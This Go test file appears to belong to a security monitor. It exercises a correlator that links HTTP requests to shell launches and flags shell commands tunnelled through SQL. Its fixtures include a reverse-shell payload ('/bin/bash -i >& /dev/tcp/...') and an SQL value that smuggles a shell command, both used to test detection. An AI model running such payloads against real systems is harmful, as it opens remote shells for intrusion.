package rce

import (
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cylestio/monitor/internal/patterns"
)

func newTestCorrelator() (*Correlator, *alertCapture) {
	cap := &alertCapture{}
	c := New(patterns.Default(), nil)
	c.SetAlertFunc(cap.record)
	return c, cap
}

type alertCapture struct {
	mu     sync.Mutex
	alerts []Alert
}

func (a *alertCapture) record(alert Alert) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.alerts = append(a.alerts, alert)
}

func (a *alertCapture) all() []Alert {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]Alert(nil), a.alerts...)
}

func TestRecentShellProcesses(t *testing.T) {
	c, _ := newTestCorrelator()

	now := time.Now()
	c.RegisterShellProcess(100, 1, "/bin/bash", now)
	c.RegisterShellProcess(101, 1, "/bin/sh", now.Add(-time.Minute))

	recent := c.RecentShellProcesses(15 * time.Second)
	if len(recent) != 1 {
		t.Fatalf("recent = %d, want 1", len(recent))
	}
	if recent[0].PID != 100 {
		t.Errorf("pid = %d", recent[0].PID)
	}
}

func TestHTTPContextBounded(t *testing.T) {
	c, _ := newTestCorrelator()

	for i := 0; i < 30; i++ {
		c.RegisterHTTPRequest("exec-1", "http://db.internal/query", "POST")
	}

	c.mu.Lock()
	n := len(c.httpCtx["exec-1"])
	c.mu.Unlock()
	if n != maxHTTPContext {
		t.Errorf("history length = %d, want %d", n, maxHTTPContext)
	}
}

func TestHTTPContextKeysPruned(t *testing.T) {
	c, _ := newTestCorrelator()

	// An execution whose requests all fell out of the window must not
	// keep its key alive forever.
	c.mu.Lock()
	c.httpCtx["exec-stale"] = []HTTPRequest{
		{URL: "http://db.internal/old", Method: "POST", Timestamp: time.Now().Add(-time.Minute)},
	}
	c.mu.Unlock()

	c.RegisterHTTPRequest("exec-live", "http://db.internal/query", "POST")

	c.mu.Lock()
	_, staleKept := c.httpCtx["exec-stale"]
	keys := len(c.httpCtx)
	c.mu.Unlock()

	if staleKept {
		t.Error("stale execution key not evicted")
	}
	if keys != 1 {
		t.Errorf("execution keys = %d, want 1", keys)
	}
}

func TestCorrelateResponseWithinWindow(t *testing.T) {
	c, cap := newTestCorrelator()

	c.RegisterHTTPRequest("exec-1", "http://db.internal/query", "POST")
	c.RegisterShellProcess(4242, 1, "/bin/bash", time.Now())

	alerts := c.CorrelateResponse("exec-1")
	if len(alerts) != 1 {
		t.Fatalf("alerts = %d, want 1", len(alerts))
	}
	a := alerts[0]
	if a.Title != "Shell Process Execution via HTTP" {
		t.Errorf("title = %q", a.Title)
	}
	if a.Severity != "critical" {
		t.Errorf("severity = %q", a.Severity)
	}
	if got := cap.all(); len(got) != 1 {
		t.Errorf("callback received %d alerts", len(got))
	}

	t.Run("not re-reported", func(t *testing.T) {
		if again := c.CorrelateResponse("exec-1"); len(again) != 0 {
			t.Errorf("correlated shell reported twice: %d", len(again))
		}
	})
}

func TestCorrelateResponseOutsideWindow(t *testing.T) {
	c, _ := newTestCorrelator()

	c.RegisterHTTPRequest("exec-1", "http://db.internal/query", "POST")
	c.RegisterShellProcess(4242, 1, "/bin/bash", time.Now().Add(-time.Minute))

	if alerts := c.CorrelateResponse("exec-1"); len(alerts) != 0 {
		t.Errorf("stale shell correlated: %d alerts", len(alerts))
	}
}

func TestExtractSQLCommandsGate(t *testing.T) {
	c, _ := newTestCorrelator()

	t.Run("plain SQL skipped", func(t *testing.T) {
		got := c.ExtractSQLCommands("SELECT name FROM users WHERE id = 42")
		if got != nil {
			t.Errorf("extracted from benign SQL: %v", got)
		}
	})

	t.Run("high-risk SQL extracted", func(t *testing.T) {
		sql := "INSERT INTO notes (body) VALUES ('/bin/bash -i >& /dev/tcp/10.0.0.1/4444')"
		got := c.ExtractSQLCommands(sql)
		if len(got) == 0 {
			t.Fatal("nothing extracted from shell-bearing SQL")
		}
		if !strings.Contains(got[0], "/bin/bash") {
			t.Errorf("extracted %q", got[0])
		}
	})

	t.Run("common identifiers rejected", func(t *testing.T) {
		// The gate opens (pipe present) but the quoted value is a
		// harmless short identifier.
		sql := "UPDATE t SET mode = 'a|b' WHERE col = 'name'"
		for _, token := range c.ExtractSQLCommands(sql) {
			if token == "name" {
				t.Errorf("common identifier %q extracted", token)
			}
		}
	})
}

func TestRegisterVirtualShellExecution(t *testing.T) {
	c, cap := newTestCorrelator()

	t.Run("default medium", func(t *testing.T) {
		a := c.RegisterVirtualShellExecution("launch helper task runner xyz", "http://db/q", "POST")
		if a.Severity != "medium" {
			t.Errorf("severity = %q, want medium", a.Severity)
		}
	})

	t.Run("high-risk critical", func(t *testing.T) {
		a := c.RegisterVirtualShellExecution("/bin/sh -c 'id'", "http://db/q", "POST")
		if a.Severity != "critical" {
			t.Errorf("severity = %q, want critical", a.Severity)
		}
	})

	t.Run("pseudo PIDs negative and distinct", func(t *testing.T) {
		c.mu.Lock()
		defer c.mu.Unlock()
		seen := map[int]bool{}
		for pid := range c.shells {
			if pid >= 0 {
				t.Errorf("virtual shell has non-negative pid %d", pid)
			}
			if seen[pid] {
				t.Errorf("duplicate pseudo pid %d", pid)
			}
			seen[pid] = true
		}
	})

	if got := cap.all(); len(got) != 2 {
		t.Errorf("callback received %d alerts, want 2", len(got))
	}
}

// End-to-end: SQL carrying a shell command arrives over HTTP, a virtual
// shell is registered, and the response correlates it.
func TestSQLTunnelledShellCorrelates(t *testing.T) {
	c, cap := newTestCorrelator()

	sql := "INSERT INTO cmds (c) VALUES ('enable-shell; /bin/sh')"
	c.RegisterHTTPRequest("exec-9", "http://db.internal/query", "POST")
	for _, cmd := range c.ExtractSQLCommands(sql) {
		c.RegisterVirtualShellExecution(cmd, "http://db.internal/query", "POST")
	}
	alerts := c.CorrelateResponse("exec-9")

	if len(alerts) == 0 {
		t.Fatal("virtual shell did not correlate with its request")
	}
	var critical bool
	for _, a := range cap.all() {
		if a.Severity == "critical" {
			critical = true
		}
	}
	if !critical {
		t.Error("no critical alert raised for shell-bearing SQL")
	}
}
